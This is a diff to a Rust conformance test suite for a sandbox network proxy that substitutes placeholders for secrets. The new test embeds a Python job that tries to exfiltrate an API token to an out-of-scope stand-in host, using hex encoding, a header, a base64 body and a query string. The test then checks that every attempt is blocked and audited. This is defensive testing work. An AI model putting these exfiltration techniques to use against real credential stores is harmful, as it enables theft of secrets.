@@ -74,6 +74,89 @@ fn run(t: &Target, policy: &std::path::Path, source: &str) -> Option<serde_json:
     Some(run.obs)
 }
 
+/// A host-side HTTP server on 127.0.0.1 that records each request whole (head and a
+/// `Content-Length` body) and, when `echo` is set, answers with what a careless debugging
+/// endpoint would: the request's `Authorization` value in an `X-Echoed` header, and in
+/// the body the whole request, then that value in hex and with every byte
+/// percent-escaped. Otherwise it answers `ok`.
+struct EchoServer {
+    port: u16,
+    requests: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl EchoServer {
+    fn start(echo: bool) -> Self {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let port = listener.local_addr().expect("addr").port();
+        let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let seen = requests.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                let mut request = Vec::new();
+                let mut byte = [0u8; 1];
+                while !request.ends_with(b"\r\n\r\n") && request.len() < 64 * 1024 {
+                    match stream.read(&mut byte) {
+                        Ok(1) => request.push(byte[0]),
+                        _ => break,
+                    }
+                }
+                let head = String::from_utf8_lossy(&request).into_owned();
+                let header = |name: &str| {
+                    head.lines().find_map(|l| {
+                        let (n, v) = l.split_once(':')?;
+                        n.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
+                    })
+                };
+                let length: usize = header("content-length")
+                    .and_then(|v| v.parse().ok())
+                    .unwrap_or(0);
+                // What arrived, which is less than promised when the proxy cut it off.
+                let mut body = Vec::new();
+                let _ = (&mut stream)
+                    .take(length.min(1 << 20) as u64)
+                    .read_to_end(&mut body);
+                request.extend_from_slice(&body);
+                seen.lock()
+                    .expect("lock")
+                    .push(String::from_utf8_lossy(&request).into_owned());
+                let auth = header("authorization").unwrap_or_default();
+                let (extra, answer) = if echo {
+                    let hex: String = auth.bytes().map(|b| format!("{b:02x}")).collect();
+                    let escaped: String = auth.bytes().map(|b| format!("%{b:02X}")).collect();
+                    (
+                        format!("X-Echoed: {auth}\r\n"),
+                        format!("{head}\n{hex}\n{escaped}\n"),
+                    )
+                } else {
+                    (String::new(), "ok".to_owned())
+                };
+                let _ = write!(
+                    stream,
+                    "HTTP/1.1 200 OK\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n{answer}",
+                    answer.len()
+                );
+            }
+        });
+        Self { port, requests }
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.requests.lock().expect("lock").clone()
+    }
+}
+
+/// The forms of `value` that must not reach the job or another host: raw, hex and fully
+/// percent-escaped.
+fn forms_of(value: &str) -> [String; 3] {
+    [
+        value.to_owned(),
+        value.bytes().map(|b| format!("{b:02x}")).collect(),
+        value.bytes().map(|b| format!("%{b:02X}")).collect(),
+    ]
+}
+
 conformance! {
     fn an_allowed_host_answers_through_the_proxy_from_urllib_and_curl(t: &Target) {
         let server = RecordingServer::start("hello from api");
@@ -189,6 +272,97 @@ conformance! {
         assert!(to_api.contains(&format!("Bearer {SECRET_VALUE}")), "{to_api}");
         assert!(!to_other.contains(SECRET_VALUE), "the other host saw the secret: {to_other}");
         assert!(to_other.contains(PLACEHOLDER), "{to_other}");
+        let everything = obs.to_string()
+            + &std::fs::read_to_string(t.path().join("audit.jsonl")).unwrap_or_default();
+        assert!(!everything.contains(SECRET_VALUE), "the secret leaked into the observation or audit log");
+    }
+
+    fn an_echoing_upstream_never_hands_back_the_secret_nor_can_it_go_elsewhere(t: &Target) {
+        let api = EchoServer::start(true);
+        let other = EchoServer::start(false);
+        let allow = [
+            format!("api.test:{}", api.port),
+            format!("other.test:{}", other.port),
+        ];
+        let secret = format!(
+            "[[network.secrets]]\nenv = \"API_TOKEN\"\nplaceholder = \"{PLACEHOLDER}\"\n\
+             value_env = \"REAL_TOKEN\"\nhosts = [\"api.test:{}\"]",
+            api.port
+        );
+        let policy = proxy_policy(t, &allow, &secret);
+        // The job reads what the echo hands back and forwards all of it, hex-encoded past
+        // any redaction, to the other host. Then it tries the real value itself (the test
+        // hands it over, as a job that got it some other way would have it) in a header,
+        // a body and a query toward the other host: each must be refused.
+        let real_hex: String = SECRET_VALUE.bytes().map(|b| format!("{b:02x}")).collect();
+        let source = format!(
+            "import base64, os, urllib.error, urllib.request\n\
+             token = os.environ['API_TOKEN']\n\
+             req = urllib.request.Request('http://api.test:{api}/', headers={{'Authorization': 'Bearer ' + token}})\n\
+             with urllib.request.urlopen(req, timeout=5) as r:\n\
+             \x20   got = (r.headers.get('X-Echoed', '') + '\\n').encode() + r.read()\n\
+             print('echoed', got.count(token.encode()))\n\
+             fwd = urllib.request.Request('http://other.test:{other}/fwd', data=got.hex().encode())\n\
+             print('forwarded', urllib.request.urlopen(fwd, timeout=5).status)\n\
+             real = bytes.fromhex('{real_hex}').decode()\n\
+             for how, req in [\n\
+             \x20   ('header', urllib.request.Request('http://other.test:{other}/', headers={{'X-Leak': real}})),\n\
+             \x20   ('body', urllib.request.Request('http://other.test:{other}/', data=base64.b64encode(real.encode()))),\n\
+             \x20   ('query', urllib.request.Request('http://other.test:{other}/?k=' + real.encode().hex())),\n\
+             ]:\n\
+             \x20   try:\n\
+             \x20       print(how, urllib.request.urlopen(req, timeout=5).status)\n\
+             \x20   except urllib.error.HTTPError as e:\n\
+             \x20       print(how, e.code)",
+            api = api.port,
+            other = other.port,
+        );
+        let Some(obs) = run(t, &policy, &source) else { return };
+        // The upstream did get the real value and echoed it (header, request, hex, escaped)...
+        let to_api = api.requests().join("");
+        assert!(to_api.contains(&format!("Bearer {SECRET_VALUE}")), "{to_api}");
+        // ...and the job got the placeholder back in each of those four places instead.
+        assert_eq!(
+            obs["stdout"],
+            "echoed 4\nforwarded 200\nheader 403\nbody 403\nquery 403\n",
+            "{obs:#}"
+        );
+        // The header and the query were refused before the proxy dialled; the body was
+        // cut off before any of the value went out (its head may have, or not even that).
+        let to_other = other.requests();
+        assert_eq!(to_other.len(), 2, "{to_other:?}");
+        let cut_body = to_other[1].split_once("\r\n\r\n").map_or("", |(_, body)| body);
+        assert_eq!(cut_body, "", "a body reached the other host: {to_other:?}");
+        let forwarded = to_other[0].split("\r\n\r\n").nth(1).unwrap_or_default();
+        let forwarded: Vec<u8> = (0..forwarded.len() / 2)
+            .filter_map(|i| u8::from_str_radix(&forwarded[2 * i..2 * i + 2], 16).ok())
+            .collect();
+        let forwarded = String::from_utf8_lossy(&forwarded);
+        assert!(forwarded.contains(PLACEHOLDER), "{forwarded}");
+        for form in forms_of(SECRET_VALUE) {
+            assert!(!forwarded.contains(&form), "{form} came back to the job: {forwarded}");
+            assert!(!to_other.join("").contains(&form), "{form} reached the other host");
+        }
+        // Audited: the scrubbed answer, and each refusal, with its reason.
+        let audit = t.audit_lines();
+        let connections: Vec<&serde_json::Value> =
+            audit.iter().filter(|l| l["event"] == "connection").collect();
+        let echoed = connections
+            .iter()
+            .find(|l| l["host"] == "api.test")
+            .expect("an audit line for the echo");
+        assert_eq!(echoed["verdict"], "allowed", "{echoed:#}");
+        assert_eq!(echoed["secrets_scrubbed"], 4, "{echoed:#}");
+        let refused: Vec<&&serde_json::Value> = connections
+            .iter()
+            .filter(|l| l["host"] == "other.test" && l["verdict"] == "denied")
+            .collect();
+        assert_eq!(refused.len(), 3, "{connections:#?}");
+        for line in refused {
+            assert_eq!(line["status"], 403, "{line:#}");
+            assert!(line["reason"].as_str().unwrap().contains("outside its scope"), "{line:#}");
+        }
+        assert_eq!(obs["network"]["denied"], 3, "{obs:#}");
         let everything = obs.to_string()
             + &std::fs::read_to_string(t.path().join("audit.jsonl")).unwrap_or_default();
         assert!(!everything.contains(SECRET_VALUE), "the secret leaked into the observation or audit log");
